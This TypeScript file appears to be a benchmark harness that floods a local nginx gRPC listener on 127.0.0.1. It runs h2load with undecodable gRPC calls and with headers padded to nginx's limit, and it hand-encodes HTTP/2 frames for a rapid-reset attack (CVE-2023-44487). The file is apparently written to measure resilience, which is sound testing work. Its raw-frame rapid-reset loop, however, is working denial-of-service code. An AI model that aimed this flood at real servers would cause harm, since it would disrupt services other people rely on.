/**
 * make bench-cost-attack's HTTP/2 flood against nginx's gRPC listener, from 127.0.0.1: h2load
 * (Debian's nghttp2-client) with many connections of many streams of calls whose message does not
 * decode, h2load again with headers at nginx's limit, and connections that open streams and reset
 * them at once (rapid reset, CVE-2023-44487), written as raw frames so each stream is on the wire.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

const CALCULATE_SUM = "/summation.SummationService/CalculateSum";

/** A gRPC message frame whose 4 bytes are no protobuf (field 0, wire type 7): Service A answers INTERNAL. */
const UNDECODABLE = Buffer.from([0, 0, 0, 0, 4, 0xff, 0xff, 0xff, 0xff]);

/** nginx's large_client_header_buffers (4 8k, nginx/nginx.conf): three fields just under 8 KiB each. */
const HEADERS_AT_LIMIT = [1, 2, 3].map((n) => `x-pad-${n}: ${"p".repeat(8 * 1024 - 64)}`);

export interface FloodPlan {
  port: number;
  seconds: number;
  /** h2load's flood of undecodable calls. */
  connections: number;
  streamsPerConnection: number;
  /** Connections opening and resetting streams. */
  resetConnections: number;
}

export interface FloodReport {
  /** Each h2load run's summary lines ("requests: ...", "status codes: ..."). */
  h2load: Record<string, string[]>;
  /** Streams opened and reset at once that the server took, and the connections they came on. */
  resets: { taken: number; connections: number };
}

/** One h2load run: its summary lines, or none when `deadline` stopped it first. */
async function h2loadRun(args: string[], deadline: number): Promise<string[]> {
  const child = spawn("h2load", args, { stdio: ["ignore", "pipe", "pipe"] });
  let output = "";
  child.stdout.on("data", (chunk: Buffer) => {
    output += chunk.toString();
  });
  child.stderr.on("data", (chunk: Buffer) => {
    output += chunk.toString();
  });
  const timer = setTimeout(() => child.kill("SIGKILL"), Math.max(0, deadline - Date.now()));
  const [code, signal] = (await once(child, "exit")
    .catch((error: Error) => {
      throw new Error(`h2load could not run (${error.message}): apt-get install nghttp2-client`);
    })
    .finally(() => clearTimeout(timer))) as [number | null, NodeJS.Signals | null];
  if (signal === "SIGKILL") return [];
  const lines = output.split("\n").filter((line) => /^(requests|status codes):/.test(line));
  if (lines.length === 0) throw new Error(`h2load exited (${code}) without a summary: ${output.trim()}`);
  return lines;
}

/**
 * h2load again and again until `deadline`. h2load does not reconnect after the server's GOAWAY
 * (nginx sends one after keepalive_requests calls), and a run given a duration sits idle once its
 * connections are closed; a run given a count ends then, and the next one reconnects, as an
 * attacker would. Returns how many runs there were and what those that ended counted.
 */
async function h2loadUntil(args: string[], deadline: number): Promise<string[]> {
  let ended = 0;
  let cutOff = false;
  let requests = 0;
  let statuses = "";
  while (Date.now() < deadline) {
    const lines = await h2loadRun(args, deadline);
    if (lines.length === 0) {
      cutOff = true;
      break;
    }
    ended += 1;
    requests += Number(/^requests: .*?(\d+) done/m.exec(lines.join("\n"))?.[1] ?? 0);
    statuses = lines.find((line) => line.startsWith("status codes:")) ?? statuses;
  }
  const runs = `${ended} runs ended${cutOff ? " and one was cut off at the end" : ""}; ${requests} calls done in those that ended`;
  return statuses === "" ? [runs] : [runs, `the last that ended: ${statuses}`];
}

/** An HPACK string literal, not Huffman coded; the ones here are short enough for the 7-bit length. */
function hpackString(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length >= 127) throw new Error(`HPACK literal over 126 bytes: ${value}`);
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** The HEADERS block of a CalculateSum call: static-table entries and literals without indexing. */
function callHeaderBlock(authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    Buffer.from([0x04]), // :path (static name 4)
    hpackString(CALCULATE_SUM),
    Buffer.from([0x01]), // :authority (static name 1)
    hpackString(authority),
    Buffer.from([0x0f, 0x10]), // content-type (static name 31)
    hpackString("application/grpc"),
    Buffer.from([0x00]),
    hpackString("te"),
    hpackString("trailers"),
  ]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const SETTINGS = 0x4;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = Buffer.from([0, 0, 0, 8]);

const RESETS_PER_WRITE = 1000;
const GOAWAY = 0x7;

/** Calls `onGoaway` with the last stream id of the first GOAWAY among the frames `socket` receives. */
function watchGoaway(socket: Socket, onGoaway: (lastStreamId: number) => void): void {
  let pending = Buffer.alloc(0);
  const listener = (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending[3] === GOAWAY && pending.length >= 13) {
        socket.off("data", listener);
        onGoaway(pending.readUInt32BE(9) & 0x7fffffff);
        return;
      }
      if (pending.length < 9 + length) return;
      pending = pending.subarray(9 + length);
    }
  };
  socket.on("data", listener);
}

/**
 * One connection after another until `deadline`, each opening streams 100 at a time and resetting
 * each at once; at the server's GOAWAY (nginx: after keepalive_requests streams) the next connection
 * starts, as an attacker's would. The frames are encoded once and only their stream ids rewritten,
 * so the tool takes little of the machine it shares with the stack. Returns the streams the server
 * took (by its GOAWAYs' last stream ids) and the connections made.
 */
async function rapidReset(port: number, deadline: number): Promise<{ taken: number; connections: number }> {
  const headers = frame(HEADERS, END_HEADERS, 0, callHeaderBlock(`127.0.0.1:${port}`));
  const reset = frame(RST_STREAM, 0, 0, CANCEL);
  const pair = headers.length + reset.length;
  const template = Buffer.concat(Array.from({ length: RESETS_PER_WRITE }, () => [headers, reset]).flat());
  let taken = 0;
  let connections = 0;
  while (Date.now() < deadline) {
    const socket: Socket = connect({ host: "127.0.0.1", port });
    connections += 1;
    socket.on("error", () => undefined);
    let done = false;
    socket.once("close", () => {
      done = true;
    });
    watchGoaway(socket, (lastStreamId) => {
      taken += (lastStreamId + 1) / 2;
      done = true;
    });
    await once(socket, "connect").catch(() => undefined);
    // The server's SETTINGS are acknowledged ahead: it sends one, at the start.
    socket.write(
      Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), frame(SETTINGS, ACK, 0, Buffer.alloc(0))]),
    );
    let streamId = 1;
    while (!done && Date.now() < deadline && streamId < 2 ** 30) {
      // A fresh copy each time: write() may still hold the last one.
      const batch = Buffer.from(template);
      for (let i = 0; i < RESETS_PER_WRITE; i += 1, streamId += 2) {
        batch.writeUInt32BE(streamId, i * pair + 5);
        batch.writeUInt32BE(streamId, i * pair + headers.length + 5);
      }
      if (!socket.write(batch))
        await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined);
      else await new Promise((resolve) => setImmediate(resolve));
    }
    socket.destroy();
  }
  return { taken, connections };
}

/** h2load's connections and a call count past what nginx lets one connection carry. */
const calls = (connections: number) => ["-c", String(connections), "-n", String(connections * 1_000_000)];

/** Runs the whole flood for `plan.seconds`; resolves when every part has stopped. */
export async function grpcFlood(plan: FloodPlan): Promise<FloodReport> {
  const dir = await mkdtemp(join(tmpdir(), "grpc-flood-"));
  try {
    const body = join(dir, "undecodable.bin");
    await writeFile(body, UNDECODABLE);
    const url = `http://127.0.0.1:${plan.port}${CALCULATE_SUM}`;
    // As many calls as the connections can carry: each run ends when nginx has closed them all.
    const common = ["-t", "1", "-d", body, "-H", "content-type: application/grpc"];
    const deadline = Date.now() + plan.seconds * 1000;
    const [streams, headers, resets] = await Promise.all([
      h2loadUntil([...common, ...calls(plan.connections), "-m", String(plan.streamsPerConnection), url], deadline),
      h2loadUntil([...common, ...calls(4), "-m", "100", ...HEADERS_AT_LIMIT.flatMap((h) => ["-H", h]), url], deadline),
      Promise.all(Array.from({ length: plan.resetConnections }, () => rapidReset(plan.port, deadline))),
    ]);
    return {
      h2load: {
        [`${plan.connections} connections x ${plan.streamsPerConnection} streams, undecodable`]: streams,
        "4 connections x 100 streams, headers at the limit": headers,
      },
      resets: {
        taken: resets.reduce((sum, one) => sum + one.taken, 0),
        connections: resets.reduce((sum, one) => sum + one.connections, 0),
      },
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
